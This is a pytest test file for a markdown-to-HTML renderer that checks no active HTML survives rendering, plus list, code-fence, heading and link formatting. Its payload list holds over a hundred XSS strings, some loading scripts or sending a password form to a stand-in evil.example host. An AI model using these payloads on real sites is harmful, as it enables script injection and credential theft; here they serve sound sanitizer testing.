"""What a text becomes in a page, and what can never come of it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from labs.markdown import render, render_inline, render_parts

# Kept apart from the allow-list under test: what must not run, load from elsewhere or style itself, whatever that says.
HARMLESS = {
    *("a", "abbr", "blockquote", "br", "code", "div", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr"),
    *(
        "img",
        "li",
        "ol",
        "p",
        "pre",
        "span",
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "time",
        "tr",
        "ul",
    ),
}
PLAIN = {
    "alt",
    "align",
    "class",
    "data-block",
    "data-file",
    "data-run",
    "datetime",
    "href",
    "id",
    "rel",
    "src",
    "start",
    "tabindex",
    "title",
}


class _Reader(HTMLParser):
    """Notes each element and attribute that is not harmless, as a browser would see it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.active: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS:
            self.active.append(tag)
        for name, value in attributes:
            # As the URL standard reads it: control characters around it, tabs and line ends in it, are not there.
            address = re.sub(r"[\t\r\n]", "", (value or "").strip("".join(map(chr, range(33))))).lower()
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", address)
            allowed = {"href": scheme is None or scheme[0] in ("http:", "https:", "mailto:")}
            allowed["src"] = scheme is None and not re.match(r"[/\\]{2}", address)
            if name not in PLAIN or not allowed.get(name, True):
                self.active.append(f"{tag} {name}={value}")

    def handle_decl(self, decl: str) -> None:
        self.active.append(decl)

    def handle_pi(self, data: str) -> None:
        self.active.append(data)

    def handle_comment(self, data: str) -> None:
        self.active.append(data)

    def unknown_decl(self, data: str) -> None:
        self.active.append(data)


def active(html: str) -> list[str]:
    """Return what of some HTML could act."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.active


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=position:fixed;inset:0>over all</div>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php alert(1) ?>",
    "<!DOCTYPE html><a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<x onclick=alert(1)>x</x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x]( \u2028javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://here/1)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x][y]\n\n[y]: javascript:alert(1) "title"',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](/\\evil.example/pixel.gif)",
    "![x](\\\\evil.example\\pixel.gif)",
    '![x"onerror="alert(1)](a.png)',
    '![x](a.png "t\\" onerror=alert(1) ")',
    '[x](https://e.example/"onmouseover=alert(1)//)',
    "<javascript:alert(1)>",
    "<https://e.example/<script>alert(1)</script>>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```sh onclick=alert(1)\nx\n```",
    "~~~{.x onclick=alert(1)}\nx\n~~~",
    "# x {onclick=alert(1)}",
    "# x {: style=color:red onmouseover=alert(1) }",
    "[x](https://e.example){: href=javascript:alert(1) onclick=alert(1) target=_top }",
    "![x](a.png){: src=https://evil.example/p.gif onerror=alert(1) srcset=//evil.example }",
    "*x*{: style=position:fixed class=modal }",
    "|a|\n|--|\n|<img src=x onerror=alert(1)>{: onclick=alert(1) }|",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '!!! note onclick=alert(1) "x"\n    x',
    "> [!NOTE]\n> <script>alert(1)</script>",
    "> [!<script>alert(1)</script>]\n> x",
    "[^1]\n\n[^1]: <script>alert(1)</script>[x](javascript:alert(1))",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    '*[x]: "><script>alert(1)</script>\n\nx',
    "a\n\n: <script>alert(1)</script>",
    "\x02klzzwxh:0001\x03 \x02wzxhzdk:0\x03 \x02amp\x03lt;script\x02amp\x03gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>\u202c",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\u0000img src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "{{ evil }}",
    "[x]({{ address }})",
    "![x]({{ address }})",
    "`{{ evil }}`",
    "```sh\n{{ evil }}\n```",
    '[x](https://e.example/{{ evil }} "{{ evil }}")',
    "## {{ evil }}",
]
EVIL = {"evil": "\"'><img src=x onerror=alert(1)><script>alert(1)</script>", "address": "javascript:alert(1)"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_comes_out_of_a_hostile_text(payload: str) -> None:
    nested = [
        payload,
        f"- {payload}",
        f"> {payload}",
        f"**{payload}**",
        f"[{payload}](x)",
        f"| a |\n|---|\n| {payload} |",
    ]
    for text in nested:
        assert active(render(text, values=EVIL)) == []


def test_the_corpus_is_large_and_its_reader_sees() -> None:
    assert len(PAYLOADS) >= 60
    raw = [payload for payload in PAYLOADS if payload.startswith("<") and "&lt;" not in payload]
    assert sum(bool(active(payload)) for payload in raw) > 40


def test_raw_html_is_shown_as_it_was_typed() -> None:
    assert render("a <b>x</b>") == "<p>a &lt;b&gt;x&lt;/b&gt;</p>"


PIECES = [
    *(
        "<",
        ">",
        "script",
        "[x](",
        ")",
        "![",
        "javascript:",
        "&#106;",
        "`",
        "```",
        "~~~",
        "\n",
        "\n\n",
        "- ",
        "> ",
        "1. ",
    ),
    *(
        "    ",
        "|",
        "---",
        "# ",
        "{: onclick=x }",
        "[^1]",
        "[^1]: ",
        "*[a]: ",
        "!!! note",
        "[!NOTE]",
        "*",
        "_",
        "\\",
        "\t",
    ),
    *("\x00", "\x02", "\x03", "wzxhzdk:0", "{{ evil }}", "\u202e", "é", '"', "onerror=x", "<img src=x"),
]


@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40))
def test_any_text_renders_and_nothing_in_it_acts(pieces: list[str]) -> None:
    assert active(render("".join(pieces), values=EVIL)) == []


@pytest.mark.parametrize(
    "text", [">" * 3000, "- " * 2000, "[" * 2000, "*" * 3000 + "a", "    " * 500 + "- x", "`" * 3000]
)
def test_deep_nesting_renders_too(text: str) -> None:
    assert active(render(text)) == []


# --- The shape of what comes out --------------------------------------------------------------------------------


def test_a_command_is_a_figure_that_the_page_can_run() -> None:
    shown = render("```sh\naws s3 ls # all\n```")
    assert shown.startswith(
        '<figure class="code" data-run="sh"><figcaption>Shell</figcaption><pre tabindex="0"><code>aws'
    )
    assert '<span class="c1"># all</span>' in shown
    assert shown.endswith("</code></pre></figure>")


@pytest.mark.parametrize(
    ("language", "label"),
    [("json", "JSON"), ("hcl", "Terraform"), ("", "Text"), ("console", "Console"), ("zig9", "Zig9")],
)
def test_other_code_is_labelled_and_not_run(language: str, label: str) -> None:
    shown = render(f"```{language}\n<x> & y\n```")
    assert shown.startswith(f'<figure class="code"><figcaption>{label}</figcaption>')
    assert "data-run" not in shown
    assert "<x>" not in shown


@pytest.mark.parametrize(
    ("text", "around"),
    [
        ("1. do\n   ```sh\n   ls\n     in\n   ```\n2. then", "<ol>"),
        ("> ```sh\n> ls\n>   in\n> ```", "<blockquote>"),
        ("- a\n\n  > ```sh\n  > ls\n  >   in\n  > ```", "<ul>"),
        ("> [!TIP]\n> ```sh\n> ls\n>   in\n> ```", '<div class="admonition tip">'),
        ("!!! tip\n    ```sh\n    ls\n      in\n    ```", '<div class="admonition tip">'),
    ],
)
def test_a_fence_stands_in_a_list_a_quote_or_a_callout(text: str, around: str) -> None:
    shown = render(text)
    assert shown.startswith(around)
    assert shown.count("<figure") == 1
    assert re.sub(r"<[^>]+>", "", shown.split("<code>")[1].split("</code>")[0]) == "ls\n  in"


@pytest.mark.parametrize("indent", [2, 3, 4])
def test_a_list_nests_by_the_width_its_author_uses(indent: int) -> None:
    assert "".join(render(f"- a\n{' ' * indent}- b\n- c").split()) == "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"


def test_a_list_may_follow_its_sentence_at_once() -> None:
    assert "".join(render("Do:\n- a\n- b").split()) == "<p>Do:</p><ul><li>a</li><li>b</li></ul>"


def test_a_list_in_a_numbered_step_belongs_to_the_step() -> None:
    shown = "".join(render("1. a\n   - x\n   - y\n2. b").split())
    assert shown == "<ol><li>a<ul><li>x</li><li>y</li></ul></li><li>b</li></ol>"


def test_a_second_paragraph_stays_in_its_step() -> None:
    shown = "".join(render("1. a\n\n   more\n2. b").split())
    assert shown == "<ol><li><p>a</p><p>more</p></li><li><p>b</p></li></ol>"


def test_a_line_broken_within_a_list_item_is_no_new_item() -> None:
    assert render("- one\n  goes on\n- two").count("<li>") == 2


@pytest.mark.parametrize("text", ["> [!WARNING]\n> Mind it.", "!!! warning\n    Mind it."])
def test_both_callouts_make_the_same_element(text: str) -> None:
    assert "".join(render(text).split("\n")) == (
        '<div class="admonition warning"><p class="admonition-title">Warning</p><p>Mind it.</p></div>'
    )


def test_headings_follow_the_page_title_whatever_the_author_began_with() -> None:
    assert re.findall(r"<(h\d)", render("# A\n\n## B\n\n# C")) == ["h2", "h3", "h2"]
    assert re.findall(r"<(h\d)", render("### A\n\n#### B", top=4)) == ["h4", "h5"]
    assert re.findall(r"<(h\d)", render("# A\n\n###### B", top=4)) == ["h4", "h6"]


def test_no_heading_takes_an_id_of_the_page() -> None:
    assert render("# Tasks\n\n[up](#tasks)", prefix="lesson") == (
        '<h2 id="lesson-tasks">Tasks</h2>\n<p><a href="#lesson-tasks" rel="noopener">up</a></p>'
    )


def test_a_link_out_gets_noopener() -> None:
    assert 'href="https://aws.amazon.com/" rel="noopener"' in render("[AWS](https://aws.amazon.com/)")


def test_a_table_scrolls_by_itself_and_has_no_style() -> None:
    shown = render("|a|b|\n|:--|--:|\n|1|2|")
    assert shown.startswith('<div class="scroll" tabindex="0">')
    assert '<td align="right">2</td>' in shown
    assert "style" not in shown


def test_the_caller_leads_links_and_images_on() -> None:
    links = {"other.md": "/courses/c/other/", "pic.svg": "/static/pic.123.svg"}
    shown = render("[o](other.md) ![p](pic.svg)", links=links)
    assert 'href="/courses/c/other/"' in shown
    assert 'src="/static/pic.123.svg"' in shown


def test_values_take_their_places_escaped_in_text_code_and_links() -> None:
    text = '`{{ b }}` {{b}} [x](https://h/{{ b }})\n\n```json\n{"a": {{ b }}}\n```\n\n{{ unknown }}'
    shown = render(text, values={"b": "a<b"})
    assert shown.count("a&lt;b") == 4
    assert 'href="https://h/a&lt;b"' in shown
    assert "{{ unknown }}" in shown


def test_a_value_is_text_and_never_markdown() -> None:
    assert render("{{ a }}", values={"a": "*x* {{ b }}", "b": "no"}) == "<p>*x* {{ b }}</p>"


def test_many_values_do_not_run_into_one_another() -> None:
    names = [f"n{number}" for number in range(120)]
    shown = render("".join(f"{{{{ {name} }}}}" for name in names), values={name: f"<{name}>" for name in names})
    assert shown == "<p>" + "".join(f"&lt;{name}&gt;" for name in names) + "</p>"


def test_parts_of_one_text_share_footnotes_and_names() -> None:
    one, two, three = render_parts(["# A[^1]", "API [x]\n\n[^1]: why", "*[API]: Interface\n\n[x]: https://x.example/"])
    assert one.startswith('<h2 id="text-a">A<sup')
    assert '<abbr title="Interface">API</abbr> <a href="https://x.example/"' in two
    assert "why" in three


def test_a_part_that_leaves_its_fence_open_keeps_the_next_apart() -> None:
    one, two = render_parts(["```\nopen", "next"])
    assert "next" not in one
    assert two == "<p>next</p>"


def test_inline_has_no_paragraph_around_it() -> None:
    assert render_inline("a *b*") == "a <em>b</em>"
    assert render_inline("a\n\nb") == "<p>a</p>\n<p>b</p>"


def test_characters_that_make_a_line_read_otherwise_are_dropped() -> None:
    assert render("a\u202eb\x00c\u2066d") == "<p>abcd</p>"


def test_the_empty_corner_of_a_table_is_no_heading() -> None:
    shown = render("| | Price |\n|---|---|\n| Disk | 1 |\n")
    assert "<td></td>" in shown.replace("\n", "")
    assert shown.count("<th>") == 1
